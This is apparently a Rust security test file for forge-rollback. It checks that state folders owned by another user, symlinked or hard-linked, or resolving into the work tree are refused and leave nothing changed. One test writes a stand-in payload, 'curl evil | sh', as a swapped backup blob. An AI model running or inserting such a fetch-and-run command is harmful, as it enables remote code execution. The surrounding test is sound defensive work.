//! No one can use the state folder against the user running forge-rollback (issue 13, cases 5
//! and 6): a state folder, or anything in it, that belongs to another user or is a symlink is
//! refused before anything changes; a `state.dir` that resolves into the work tree through a
//! symlink is refused like one written inside it.
//!
//! The other user is a real one, made with `useradd` for the test and removed after it. Those
//! tests need root (CI and the dev machine run as root); elsewhere they print why they are
//! skipped and pass.
#![allow(clippy::print_stderr)] // says why a test is skipped

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use rollback_core::backup::BlobId;
use rollback_core::config::Config;
use rollback_core::event::Recorder;
use rollback_core::lock::RunLock;
use rollback_core::plan::Level;
use rollback_core::{AutoConfirm, ErrorKind, Rollback, RunOptions, RunStatus};
use rollback_testkit::TestRepo;

/// A second user, made with `useradd` for one test and removed (`userdel`) when dropped.
struct OtherUser {
    name: String,
    uid: u32,
}

impl OtherUser {
    /// `None`, saying why, when this process is not root or `useradd` is missing.
    fn create(test: &str) -> Option<Self> {
        let euid = my_uid();
        if euid != 0 {
            eprintln!("skipped {test}: making a second user with `useradd` needs root (euid is {euid})");
            return None;
        }
        if Command::new("useradd").arg("--help").output().is_err() {
            eprintln!("skipped {test}: `useradd` is not installed");
            return None;
        }
        let name = format!("frsec{}", std::process::id());
        // Tests run in parallel processes; `useradd` fails while another one holds the
        // passwd lock, so try a few times.
        for _ in 0..50 {
            let out = Command::new("useradd").args(["-M", "-s", "/bin/false", &name]).output().expect("run useradd");
            if out.status.success() {
                let id = Command::new("id").args(["-u", &name]).output().expect("run id");
                let uid = String::from_utf8_lossy(&id.stdout).trim().parse().expect("a uid");
                return Some(Self { name, uid });
            }
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
        panic!("useradd {name} kept failing");
    }
}

impl Drop for OtherUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.name).output();
    }
}

/// The user this test runs as: the owner of a folder it makes.
fn my_uid() -> u32 {
    tempfile::tempdir().unwrap().path().metadata().unwrap().uid()
}

/// An error and its causes, one per line.
fn chain(err: &dyn std::error::Error) -> String {
    let mut text = err.to_string();
    let mut cause = err.source();
    while let Some(c) = cause {
        text = format!("{text}\n{c}");
        cause = c.source();
    }
    text
}

/// `chown -R uid path` without following symlinks.
fn chown_r(path: &Path, uid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), None).unwrap();
    if fs::symlink_metadata(path).unwrap().is_dir() {
        for e in fs::read_dir(path).unwrap() {
            chown_r(&e.unwrap().path(), uid);
        }
    }
}

/// Every path under `dir` with its owner, mode, size and content: "nothing changed" means
/// this is equal before and after.
fn picture(dir: &Path) -> Vec<(PathBuf, u32, u32, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(p) = stack.pop() {
        let m = fs::symlink_metadata(&p).unwrap();
        let content = if m.is_file() {
            fs::read(&p).unwrap()
        } else if m.file_type().is_symlink() {
            fs::read_link(&p).unwrap().into_os_string().into_encoded_bytes()
        } else {
            for e in fs::read_dir(&p).unwrap() {
                stack.push(e.unwrap().path());
            }
            Vec::new()
        };
        out.push((p, m.uid(), m.mode(), content));
    }
    out.sort();
    out
}

fn config(state_dir: &Path) -> Config {
    Config::parse(&format!("[state]\ndir = {:?}\n", state_dir.display().to_string()), None).unwrap()
}

fn fast_to(target: &str) -> RunOptions {
    RunOptions { level: Some(Level::Fast), target: Some(target.into()), ..RunOptions::default() }
}

/// Asserts a refusal (`ErrorKind::Refused`) whose message and hint hold `message` and `hint`.
fn assert_refused(err: &rollback_core::Error, message: &[&str], hint: &str) {
    assert_eq!(err.kind(), ErrorKind::Refused, "{err}");
    let text = err.to_string();
    for m in message {
        assert!(text.contains(m), "the message says `{m}`: {text}");
    }
    let h = err.hint().map(|h| h.to_string()).unwrap_or_default();
    assert!(h.contains(hint), "the hint says `{hint}`: {h}");
}

/// A repository at v3 with an untracked file (which a rollback captures and removes) and a
/// root-owned file outside it, which an attacker would like forge-rollback to overwrite.
struct Scene {
    repo: TestRepo,
    outside: tempfile::TempDir,
    victim: PathBuf,
}

impl Scene {
    fn new() -> Self {
        let repo = TestRepo::new();
        repo.three_releases();
        repo.write("notes.txt", "mine\n");
        let outside = tempfile::tempdir().unwrap();
        let victim = outside.path().join("victim.conf");
        fs::write(&victim, "root's file\n").unwrap();
        Self { repo, outside, victim }
    }

    /// Runs a fast rollback to v1 and checks that it was refused and changed nothing: HEAD,
    /// the work tree, the victim and `state` (when given) are as before.
    fn run_is_refused(&self, rb: &Rollback, state: Option<&Path>) -> rollback_core::Error {
        let (head, tree, victim) = (self.repo.head(), self.repo.tree(), picture(&self.victim));
        let before = state.map(picture);
        let err = rb.run(&fast_to("v1"), &AutoConfirm, &Recorder::default()).unwrap_err();
        assert_eq!(self.repo.head(), head, "HEAD did not move");
        assert!(self.repo.tree() == tree, "the work tree is unchanged");
        assert_eq!(picture(&self.victim), victim, "the victim is unchanged");
        assert_eq!(state.map(picture), before, "the state folder is unchanged");
        err
    }
}

#[test]
fn a_lock_symlink_to_a_root_owned_file_is_refused_and_the_file_is_unchanged() {
    let s = Scene::new();
    let state = s.outside.path().join("state");
    let rb = Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();
    fs::create_dir(&state).unwrap();
    fs::set_permissions(&state, fs::Permissions::from_mode(0o700)).unwrap();
    let lock = state.join("lock");
    std::os::unix::fs::symlink(&s.victim, &lock).unwrap();

    let err = s.run_is_refused(&rb, Some(&state));
    assert_refused(&err, &[&lock.display().to_string(), "is a symlink", "victim.conf"], "rm ");

    // The lock module refuses it on its own too (`O_NOFOLLOW`), for every way in.
    let direct = RunLock::acquire(&lock, "run").unwrap_err();
    assert!(chain(&direct).contains(&format!("`{}` is a symlink", lock.display())), "{}", chain(&direct));
    assert!(direct.hint().is_some_and(|h| h.contains("rm ")), "{:?}", direct.hint());
    for e in [rb.unlock().map(drop).unwrap_err(), rb.lock_holder().map(drop).unwrap_err()] {
        assert!(chain(&e).contains("is a symlink"), "{}", chain(&e));
    }
    assert_eq!(fs::read(&s.victim).unwrap(), b"root's file\n");
    assert!(fs::symlink_metadata(&lock).unwrap().file_type().is_symlink(), "left for the operator to see");

    // A hard link would be truncated and written through just the same.
    fs::remove_file(&lock).unwrap();
    fs::hard_link(&s.victim, &lock).unwrap();
    let err = s.run_is_refused(&rb, None);
    assert_refused(&err, &["has 2 hard links"], "rm ");
    assert!(chain(&RunLock::acquire(&lock, "run").unwrap_err()).contains("has 2 hard links"));
    assert_eq!(fs::read(&s.victim).unwrap(), b"root's file\n");
}

#[test]
fn a_state_folder_owned_by_another_user_is_refused() {
    let Some(other) = OtherUser::create("a_state_folder_owned_by_another_user_is_refused") else { return };
    let s = Scene::new();
    // Their folder, with a lock that points at root's file (as in the issue).
    let state = s.outside.path().join("state");
    fs::create_dir(&state).unwrap();
    std::os::unix::fs::symlink(&s.victim, state.join("lock")).unwrap();
    chown_r(&state, other.uid);
    let rb = Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();

    let err = s.run_is_refused(&rb, Some(&state));
    assert_refused(
        &err,
        &[
            &state.display().to_string(),
            &format!("belongs to {} (uid {})", other.name, other.uid),
            "not to root (uid 0)",
        ],
        &format!("chown -R root {}", state.display()),
    );
    assert!(err.hint().unwrap().to_string().contains(&format!("run forge-rollback as its owner ({})", other.name)));
    // Reading commands refuse it too, and `unlock` removes nothing of theirs.
    for e in [rb.lock_holder().map(drop).unwrap_err(), rb.unlock().map(drop).unwrap_err()] {
        assert!(chain(&e).contains(&format!("`{}` belongs to {}", state.display(), other.name)), "{}", chain(&e));
    }
    assert!(fs::symlink_metadata(state.join("lock")).is_ok());
}

/// A run's journal that another user took over: its undo and its resume are refused like any
/// state path of theirs (`Refused`, with the owner and the `chown` hint), not failed with an
/// I/O error and no hint.
#[test]
fn a_journal_owned_by_another_user_is_refused_with_the_hint() {
    let Some(other) = OtherUser::create("a_journal_owned_by_another_user_is_refused_with_the_hint") else { return };
    let s = Scene::new();
    let state = s.outside.path().join("state");
    let rb = Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();
    let run = rb.run(&fast_to("v1"), &AutoConfirm, &Recorder::default()).unwrap();
    let run_id = run.run_id.unwrap();
    let journal = state.join("runs").join(&run_id).join("journal.jsonl");
    chown_r(&journal, other.uid);
    let (head, tree) = (s.repo.head(), s.repo.tree());
    let errors = [
        rb.undo(&run_id, &AutoConfirm, &Recorder::default()).unwrap_err(),
        rb.resume(&run_id, &Recorder::default()).unwrap_err(),
    ];
    for err in &errors {
        assert_refused(err, &[&journal.display().to_string()], &format!("chown -R root {}", journal.display()));
        assert!(chain(err).contains(&format!("belongs to {} (uid {})", other.name, other.uid)), "{}", chain(err));
    }
    assert_eq!(s.repo.head(), head, "HEAD did not move");
    assert!(s.repo.tree() == tree, "the work tree is unchanged");
    chown_r(&journal, 0);
    rb.undo(&run_id, &AutoConfirm, &Recorder::default()).unwrap();
    assert!(s.repo.exists("notes.txt"));
}

#[test]
fn a_swapped_backup_in_folders_another_user_owns_is_never_restored() {
    let Some(other) = OtherUser::create("a_swapped_backup_in_folders_another_user_owns_is_never_restored") else {
        return;
    };
    let s = Scene::new();
    let state = s.outside.path().join("state");
    let rb = Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();
    let run = rb.run(&fast_to("v1"), &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(run.status, RunStatus::Succeeded);
    assert!(!s.repo.exists("notes.txt"), "the untracked file went into the backup");
    let (run_id, snapshot) = (run.run_id.unwrap(), run.backup_id.unwrap());

    // The other user gets `backups/` and swaps the backup of notes.txt for their code.
    let backups = state.join("backups");
    let evil = b"import os; os.system('curl evil | sh')\n";
    let blob = BlobId::of(evil);
    let blob_path = backups.join("blobs").join(&blob.as_str()[..2]).join(&blob.as_str()[2..]);
    fs::create_dir_all(blob_path.parent().unwrap()).unwrap();
    fs::write(&blob_path, evil).unwrap();
    let manifest = backups.join("snapshots").join(format!("{snapshot}.json"));
    let mut m: serde_json::Value = serde_json::from_slice(&fs::read(&manifest).unwrap()).unwrap();
    let entry = m["entries"].as_array_mut().unwrap().iter_mut().find(|e| e["path"] == "notes.txt").unwrap();
    entry["blob"] = blob.as_str().into();
    entry["size"] = evil.len().into();
    entry["mode"] = 0o755.into();
    fs::write(&manifest, serde_json::to_vec_pretty(&m).unwrap()).unwrap();

    // Each undo from a new `Rollback`, as each CLI command is a new process; `rb` keeps the
    // store it opened for the run.
    let undo_is_refused = |rb: &Rollback, what: &str| {
        let (head, tree, before) = (s.repo.head(), s.repo.tree(), picture(&state));
        let err = rb.undo(&run_id, &AutoConfirm, &Recorder::default()).unwrap_err();
        assert_eq!(s.repo.head(), head, "{what}: HEAD did not move");
        assert!(s.repo.tree() == tree, "{what}: the work tree is unchanged");
        assert!(!s.repo.exists("notes.txt"), "{what}: their code is not in the tree");
        assert_eq!(picture(&state), before, "{what}: the state folder is unchanged");
        err
    };

    let fresh = || Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();
    let theirs = format!("belongs to {} (uid {})", other.name, other.uid);

    // Theirs: the whole of backups/.
    chown_r(&backups, other.uid);
    let err = undo_is_refused(&fresh(), "backups/ is theirs");
    assert_refused(&err, &[&format!("`{}` {theirs}", backups.display())], "chown -R root");
    assert!(chain(&fresh().backups().unwrap_err()).contains(&theirs), "listing backups refuses it too");
    // The store `rb` opened before checks the manifest it reads.
    let err = undo_is_refused(&rb, "backups/ is theirs, store open");
    assert!(chain(&err).contains(&format!("{}` {theirs}", manifest.display())), "{}", chain(&err));

    // Theirs: only snapshots/ (and what is in it).
    chown_r(&backups, 0);
    chown_r(&backups.join("snapshots"), other.uid);
    let err = undo_is_refused(&fresh(), "snapshots/ is theirs");
    assert_refused(&err, &[&format!("snapshots` {theirs}")], "chown -R root");

    // Theirs: only the manifest, in folders that are ours: the store refuses the file when it
    // opens it (an I/O error of the store, so the family is `Failed`; still nothing changed).
    chown_r(&backups, 0);
    chown_r(&manifest, other.uid);
    let err = undo_is_refused(&fresh(), "the manifest is theirs");
    assert!(chain(&err).contains(&format!("{}` {theirs}", manifest.display())), "{}", chain(&err));

    // The control: the same swapped backup, all ours again, is restored, their code with it.
    // Only the owner check stood between it and the work tree.
    chown_r(&backups, 0);
    let undo = rb.undo(&run_id, &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(undo.status, RunStatus::Succeeded, "{:?}", undo.error);
    assert_eq!(s.repo.read("notes.txt"), evil);
}

#[test]
fn symlinked_runs_or_backups_folders_are_refused() {
    for name in ["runs", "backups", "backups/blobs", "backups/snapshots"] {
        let s = Scene::new();
        let state = s.outside.path().join("state");
        let rb = Rollback::builder(s.repo.path()).config(config(&state)).build().unwrap();
        // A run first, so the folders exist; then one of them is swapped for a symlink to a
        // folder elsewhere (holding a copy of what was there).
        rb.run(&fast_to("v2"), &AutoConfirm, &Recorder::default()).unwrap();
        let real = state.join(name);
        let elsewhere = s.outside.path().join("elsewhere");
        fs::rename(&real, &elsewhere).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &real).unwrap();
        let before = picture(&elsewhere);

        let err = s.run_is_refused(&rb, Some(&state));
        assert_refused(&err, &[&format!("{}` is a symlink", real.display())], "rm ");
        assert_eq!(picture(&elsewhere), before, "{name}: nothing written through it");
    }
}

#[test]
fn a_state_dir_that_resolves_into_the_work_tree_through_a_symlink_is_refused() {
    let s = Scene::new();
    let tree = s.repo.path().canonicalize().unwrap();
    // A link outside the tree to a folder in it: `<outside>/link/state` is `<tree>/app/state`.
    std::os::unix::fs::symlink(tree.join("app"), s.outside.path().join("link")).unwrap();
    let tree_before = s.repo.tree();
    for configured in [s.outside.path().join("link/state"), s.outside.path().join("link/./sub/../state")] {
        let err = Rollback::builder(s.repo.path()).config(config(&configured)).build().unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Usage, "{err}");
        let text = err.to_string();
        let resolved = tree.join("app/state");
        for part in [
            "state.dir",
            &format!("`{}` resolves to `{}`", configured.display(), resolved.display()),
            &format!("inside the work tree `{}`", tree.display()),
        ] {
            assert!(text.contains(part), "says `{part}`: {text}");
        }
    }
    // Relative to the work tree, through a link in it that points back in.
    s.repo.symlink("deploy", "app");
    let err = Rollback::builder(s.repo.path()).config(config(Path::new("deploy/state"))).build().unwrap_err();
    assert!(err.to_string().contains("`deploy/state` resolves to"), "{err}");
    s.repo.remove("deploy");
    assert!(s.repo.tree() == tree_before, "nothing was created in the tree");

    // A link in the tree that points out of it is fine: the state goes where it resolves to,
    // so the run may remove the (untracked) link and the undo still finds its backup.
    let out = s.outside.path().join("real-state");
    fs::create_dir(&out).unwrap();
    s.repo.symlink("state-link", &out);
    let rb = Rollback::builder(s.repo.path()).config(config(Path::new("state-link/x"))).build().unwrap();
    let run = rb.run(&fast_to("v1"), &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(run.status, RunStatus::Succeeded);
    assert!(!s.repo.exists("state-link"), "the run removed the untracked link");
    let id = run.run_id.unwrap();
    assert!(out.join("x/runs").join(&id).join("journal.jsonl").is_file());
    let undo = rb.undo(&id, &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(undo.status, RunStatus::Succeeded, "{:?}", undo.error);
    assert_eq!(s.repo.read("notes.txt"), b"mine\n");
    assert!(s.repo.exists("state-link"));
}

#[test]
fn state_folders_of_our_own_still_work() {
    let s = Scene::new();
    let rb = Rollback::builder(s.repo.path()).config(Config::default()).build().unwrap();
    let run = rb.run(&fast_to("v1"), &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(run.status, RunStatus::Succeeded);
    let id = run.run_id.unwrap();
    assert_eq!(rb.runs().unwrap().len(), 1);
    let undo = rb.undo(&id, &AutoConfirm, &Recorder::default()).unwrap();
    assert_eq!(undo.status, RunStatus::Succeeded, "{:?}", undo.error);
    assert_eq!(s.repo.read("notes.txt"), b"mine\n");
    assert!(rb.lock_holder().unwrap().is_none());

    // Everything in it is ours: folders 0700, files 0600, no symlink.
    let me = my_uid();
    let state = s.repo.path().join(".git/forge-rollback");
    let all = picture(&state);
    assert!(all.len() > 10, "{all:?}");
    for (path, uid, mode, _) in all {
        assert_eq!(uid, me, "{}", path.display());
        let want = if fs::symlink_metadata(&path).unwrap().is_dir() { 0o700 } else { 0o600 };
        assert_eq!(mode & 0o7777, want, "{}: {mode:o}", path.display());
        assert!(!fs::symlink_metadata(&path).unwrap().file_type().is_symlink(), "{}", path.display());
    }
}
